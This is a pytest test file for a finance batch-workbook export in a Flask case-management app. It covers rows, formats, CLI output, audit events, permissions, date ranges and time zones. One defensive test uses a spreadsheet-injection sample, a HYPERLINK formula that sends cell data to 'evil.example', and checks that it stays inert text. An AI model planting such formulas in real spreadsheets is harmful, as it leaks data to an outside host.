"""The batch workbook for finance: every version approved in a date range, one row per line."""

from __future__ import annotations

import io
import shutil
import subprocess
import sys
from pathlib import Path
from datetime import date, datetime, timedelta, timezone

import openpyxl
import pytest
from flask_babel import force_locale

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "approvals"))  # the shared plan factories

from approval_factories import Line, case_of  # noqa: E402
from approval_factories import approve, approver, comment, drafter, make_plan, pay  # noqa: E402,F401  (fixtures)
from reintegration.exports import batch  # noqa: E402
from reintegration.exports.batch import write_batch  # noqa: E402
from reintegration.exports.workbook import MONEY, RATE  # noqa: E402


@pytest.fixture
def approvals(db, make_plan, approve):
    """Two plans approved in January 2027 (2 and 1 lines), one in March, one sent back.
    Days are Danish time (UTC+1 in winter): 22:59 UTC on 31 January is 23:59 that day."""
    jan_a = make_plan(lines=[Line(kind="cash", amount="4000.00"),
                             Line(amount="100.00", currency="NGN", amount_local="25000", exchange_rate="0.004")])
    approve(jan_a, now=datetime(2027, 1, 3, 9, 0, tzinfo=timezone.utc))
    jan_b = make_plan()
    approve(jan_b, now=datetime(2027, 1, 31, 22, 59, tzinfo=timezone.utc))
    march = make_plan()
    approve(march, now=datetime(2027, 3, 1, 0, 0, tzinfo=timezone.utc))
    back = make_plan()
    approve(back, action="send_back", reason="x", now=datetime(2027, 1, 10, tzinfo=timezone.utc))
    return jan_a, jan_b, march


def test_write_batch_has_one_row_per_line_of_versions_approved_in_the_range(app, db, approvals):
    jan_a, jan_b, _march = approvals
    out = io.BytesIO()
    steps = []
    with app.test_request_context(), force_locale("en"):
        rows = write_batch(db, date(2027, 1, 1), date(2027, 1, 31), out, progress=steps.append)
    assert rows == 3 and sum(steps) == 3
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][:3] == ["Case", "Version", "Decided (UTC)"]
    assert [r[0] for r in values[1:]] == [case_of(db, jan_a).reference] * 2 + [case_of(db, jan_b).reference]
    first = values[1]
    assert first[5] == "Cash" and first[9] == 4000 and first[2] == datetime(2027, 1, 3, 9, 0)
    assert values[2][10:] == ["NGN", 25000, pytest.approx(0.004), None, "In force"]


def test_rows_keep_their_order_and_formats_when_fetched_chunk_by_chunk(app, db, approvals, monkeypatch):
    """One row per round trip: every row arrives, in order, and the cells carry the
    money, rate and date-and-time formats."""
    monkeypatch.setattr(batch, "CHUNK", 1)
    jan_a, jan_b, _march = approvals
    out = io.BytesIO()
    with app.test_request_context(), force_locale("en"):
        assert write_batch(db, date(2027, 1, 1), date(2027, 3, 31), out) == 4
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    rows = list(ws.iter_rows(min_row=2))
    assert [r[0].value for r in rows[:3]] == [case_of(db, jan_a).reference] * 2 + [case_of(db, jan_b).reference]
    assert [r[2].value for r in rows] == sorted(r[2].value for r in rows)
    assert rows[1][9].number_format == MONEY and rows[1][11].number_format == MONEY
    assert rows[1][12].number_format == RATE
    assert rows[0][2].is_date and "h" in rows[0][2].number_format


def test_an_empty_range_gives_headers_only(app, db, approvals):
    out = io.BytesIO()
    with app.test_request_context():
        assert write_batch(db, date(2026, 1, 1), date(2026, 1, 2), out) == 0
    assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.max_row == 1


def test_export_batch_command(runner, approvals, tmp_path):
    out = tmp_path / "batch.xlsx"
    result = runner.invoke(args=["export-batch", "--from", "2027-01-01", "--to", "2027-03-31", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "4 rows of 3 cases" in result.output
    ws = openpyxl.load_workbook(out).active
    assert ws["A1"].value == "Sag"  # Danish headings by default
    english = tmp_path / "batch-en.xlsx"
    result = runner.invoke(args=["export-batch", "--from", "2027-01-01", "--to", "2027-03-31", "-o", str(english),
                                 "--lang", "en"])
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(english).active
    # The language asked for, in headings and in the labels of the rows alike.
    assert ws["A1"].value == "Case" and ws.title != openpyxl.load_workbook(out).active.title
    words = {cell for row in ws.iter_rows(min_row=2, values_only=True) for cell in row if isinstance(cell, str)}
    assert not words & {"Naturalier", "Kontant", "Gældende"}, words
    bad = runner.invoke(args=["export-batch", "--from", "2027-03-01", "--to", "2027-01-01", "-o", str(out)])
    assert bad.exit_code != 0 and "--to" in bad.output


def test_the_commands_are_in_the_audit_trail_under_each_case(runner, db, approvals, tmp_path):
    """Data leaving by the command line is recorded as a download is: the batch as one
    event linked to every case it wrote, the package under its case; no user, "via": "cli"."""
    import json

    from sqlmodel import select

    from reintegration import audit
    from reintegration.models import AuditEvent

    assert runner.invoke(args=["export-batch", "--from", "2027-01-01", "--to", "2027-03-31",
                               "-o", str(tmp_path / "b.xlsx")]).exit_code == 0
    (batch_event,) = db.exec(select(AuditEvent).where(AuditEvent.action == "export.batch")).all()
    written = sorted(version.case_id for version in approvals)  # the sent-back one not
    assert batch_event.case_id is None and batch_event.user_id is None
    assert json.loads(batch_event.detail) == {"from": "2027-01-01", "to": "2027-03-31", "language": "da",
                                              "via": "cli", "cases": written}
    for case_id in written:
        assert db.exec(audit.filtered(case_id=case_id, action="export.")).all() == [batch_event]
    reference = case_of(db, approvals[0]).reference
    assert runner.invoke(args=["export-package", reference, "-o", str(tmp_path / "p.zip")]).exit_code == 0
    package = db.exec(select(AuditEvent).where(AuditEvent.action == "export.package")).one()
    assert package.case_id == approvals[0].case_id and json.loads(package.detail)["via"] == "cli"
    assert audit.verify_db(db) == []


def test_batch_download_for_approvers(auth, approvals, approver):
    auth.login(approver)
    assert auth._client.get("/exports/").status_code == 200
    response = auth._client.get("/exports/batch?date_from=2027-01-01&date_to=2027-01-31&lang=en")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    assert openpyxl.load_workbook(io.BytesIO(response.data)).active.max_row == 4
    assert response.headers["Cache-Control"] == "private, no-store"


def test_text_that_a_spreadsheet_would_run_stays_text(app, db, make_plan, approve):
    typed = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
    version = make_plan(lines=[Line(kind="cash", amount="4000.00", description=typed),
                               Line(amount="100.00", description="=1+1", currency="NGN", amount_local="25000",
                                    exchange_rate="0.004")])
    approve(version, now=datetime(2027, 1, 3, 9, 0, tzinfo=timezone.utc))
    out = io.BytesIO()
    with app.app_context():
        write_batch(db, date(2027, 1, 1), date(2027, 1, 31), out, lang="en")
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    cells = [row[7] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [typed, "=1+1"]
    assert {c.data_type for c in cells} == {"s"}
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("query, message", [
    ("date_from=2027-02-01&date_to=2027-01-01", "The end date must be on or after the start date."),
    ("date_from=&date_to=2027-01-01", "Enter a date such as 2026-03-14."),
    ("date_from=2020-01-01&date_to=2027-01-01", "At most three years at a time."),
    ("date_from=nonsense&date_to=2027-01-01", "Approved from"),
])
def test_bad_ranges_are_named_at_the_field_never_500(auth, approver, query, message):
    auth.login(approver)
    response = auth._client.get(f"/exports/batch?{query}&lang=en")
    assert response.status_code == 422 and message in response.get_data(as_text=True)


def test_an_unknown_heading_language_is_named_at_the_field(auth, approver):
    auth.login(approver)
    response = auth._client.get("/exports/batch?date_from=2027-01-01&date_to=2027-01-31&lang=xx")
    page = response.get_data(as_text=True)
    assert response.status_code == 422 and "Choose one of the options." in page
    assert "Language of the headings" in page


@pytest.mark.parametrize("role", ["caseworker", "cmm", "partner", "admin"])
def test_only_approvers_export_batches(auth, make_user, role):
    auth.login(make_user(role))
    assert auth._client.get("/exports/").status_code == 403
    assert auth._client.get("/exports/batch?date_from=2027-01-01&date_to=2027-01-31").status_code == 403


def test_the_last_days_a_date_can_hold_give_an_empty_workbook_never_500(auth, approvals, approver):
    auth.login(approver)
    response = auth._client.get("/exports/batch?date_from=9999-12-30&date_to=9999-12-31&lang=en")
    assert response.status_code == 200
    assert openpyxl.load_workbook(io.BytesIO(response.data)).active.max_row == 1


def test_categories_are_named_in_the_headings_language(app, db, make_plan, approve):
    version = make_plan(lines=[Line(amount="100.00", category="education_fees"), Line(amount="5.00", category="x-y")])
    approve(version, now=datetime(2027, 5, 3, 9, 0, tzinfo=timezone.utc))
    for lang, named in (("en", "Education fees"), ("da", "Uddannelsesgebyrer")):
        out = io.BytesIO()
        with app.test_request_context(), force_locale(lang):
            write_batch(db, date(2027, 5, 1), date(2027, 5, 31), out)
        ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
        assert [row[6].value for row in ws.iter_rows(min_row=2)] == [named, "x-y"]  # unknown: as stored


@pytest.mark.parametrize("decided, day", [
    (datetime(2026, 11, 30, 23, 30, tzinfo=timezone.utc), date(2026, 12, 1)),  # 00:30 CET
    (datetime(2026, 11, 30, 22, 59, tzinfo=timezone.utc), date(2026, 11, 30)),  # 23:59 CET
    (datetime(2027, 6, 30, 22, 30, tzinfo=timezone.utc), date(2027, 7, 1)),  # 00:30 CEST, summer time
    (datetime(2027, 6, 30, 21, 59, tzinfo=timezone.utc), date(2027, 6, 30)),  # 23:59 CEST
])
def test_a_plan_is_in_the_batch_of_the_day_the_app_shows_it_decided(app, db, make_plan, approve, decided, day):
    """Finance asks for December: a plan approved at 00:30 on 1 December, Danish time, is
    shown as decided on 1 December everywhere in the app, so it is in December's batch and
    not November's, whatever the hour is in UTC (the workbook's time column stays UTC)."""
    version = make_plan()
    approve(version, now=decided)
    reference = case_of(db, version).reference

    def cases_in(first: date, last: date) -> list[str]:
        out = io.BytesIO()
        with app.test_request_context(), force_locale("en"):
            write_batch(db, first, last, out)
        ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
        return [row[0].value for row in ws.iter_rows(min_row=2)]

    assert cases_in(day, day) == [reference]
    assert reference not in cases_in(day + timedelta(days=1), day + timedelta(days=40))
    assert reference not in cases_in(day - timedelta(days=40), day - timedelta(days=1))
    assert cases_in(date.min, date.max) == [reference]  # no bound at all, however the zone shifts it


def test_a_version_approved_without_lines_has_a_row_of_its_own(app, db, make_plan, approve):
    """An approved version with no budget lines (an amendment that ends the budget) is in
    the workbook all the same, as in force, with no amount, and the version it replaced
    says it is superseded: finance sees that the budget was approved away."""
    first = make_plan(lines=[Line(kind="cash", amount="4000.00")])
    approve(first, now=datetime(2027, 1, 5, 9, 0, tzinfo=timezone.utc))
    ended = make_plan(case=case_of(db, first), amends=first, lines=[])
    approve(ended, now=datetime(2027, 1, 20, 9, 0, tzinfo=timezone.utc))
    out, cases = io.BytesIO(), set()
    with app.test_request_context(), force_locale("en"):
        rows = write_batch(db, date(2027, 1, 1), date(2027, 1, 31), out, cases=cases)
        assert batch.count_lines(db, date(2027, 1, 1), date(2027, 1, 31)) == rows == 2
    values = [[c.value for c in row] for row in openpyxl.load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()]
    reference = case_of(db, first).reference
    assert [(r[0], r[1], r[9], r[14]) for r in values[1:]] == [(reference, 1, 4000, "Superseded by version 2"),
                                                               (reference, 2, None, "In force")]
    assert values[2][5:9] == [None, None, None, None] and values[2][13] == 1
    assert cases == {first.case_id}
    # A range holding only the amendment lists it, and so the case, too.
    with app.test_request_context(), force_locale("en"):
        assert write_batch(db, date(2027, 1, 20), date(2027, 1, 20), io.BytesIO()) == 1


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_batch_workbook(app, db, approvals, make_plan, approve, tmp_path):
    """The write-only workbook (print titles, frozen header, empty text cells, a version
    without lines) opens in LibreOffice and reads back its rows, as the package's does."""
    approve(make_plan(lines=[]), now=datetime(2027, 1, 20, 9, 0, tzinfo=timezone.utc))
    out = tmp_path / "batch.xlsx"
    with app.test_request_context(), force_locale("da"):
        rows = write_batch(db, date(2027, 1, 1), date(2027, 1, 31), str(out))
    result = subprocess.run(["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(out)],
                            capture_output=True, timeout=120)
    assert result.returncode == 0 and (tmp_path / "batch.csv").exists()
    assert len((tmp_path / "batch.csv").read_text(encoding="utf-8", errors="replace").splitlines()) == rows + 1 == 5
